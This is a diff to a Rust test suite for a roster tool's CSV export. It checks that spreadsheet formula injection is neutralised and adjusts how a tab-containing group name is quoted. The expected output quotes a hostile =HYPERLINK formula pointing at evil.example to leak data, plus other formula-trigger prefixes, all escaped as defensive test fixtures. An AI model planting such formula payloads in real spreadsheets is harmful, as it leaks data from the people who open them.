@@ -77,10 +77,11 @@ fn export_neutralises_formulas_and_reads_back_unchanged() {
     let dir = state_dir(&[("roster.toml", &site), ("people.toml", HOSTILE)]);
     let out = roster(dir.path(), &["export", "--format", "csv"], &[]);
     assert_eq!(out.code, 0, "{}", out.all());
+    // The group `\tx` is quoted in its list, or its tab would be trimmed.
     assert_eq!(
         out.stdout,
         "site,email,first_name,last_name,groups,member_type,active\n\
-         acme,ada@acme.com,\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"open\"\")\",'+1,Analysts;\tx,,true\n\
+         acme,ada@acme.com,\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"open\"\")\",'+1,\"Analysts;\"\"\tx\"\"\",,true\n\
          acme,bob@acme.com,'-x,'@sum,,,true\n\
          acme,cy@acme.com,Cy,'t Hooft,,,true\n\
          acme,dee@acme.com,''=already quoted,\"'\rcarriage\",,,true\n"
@@ -113,7 +114,7 @@ fn an_edited_export_edits_the_state_keeping_comments() {
     let edited = out
         .stdout
         .replace("'@sum,,", "Summers,Analysts,")
-        .replace("Analysts;\tx,", "Analysts;Finance,");
+        .replace("\"Analysts;\"\"\tx\"\"\",", "Analysts;Finance,");
     std::fs::write(dir.path().join("export.csv"), edited).unwrap();
     // A new group, where `roster fmt` puts it (import writes canonical files).
     let tx = "[[groups]]\nname = \"\\tx\"";
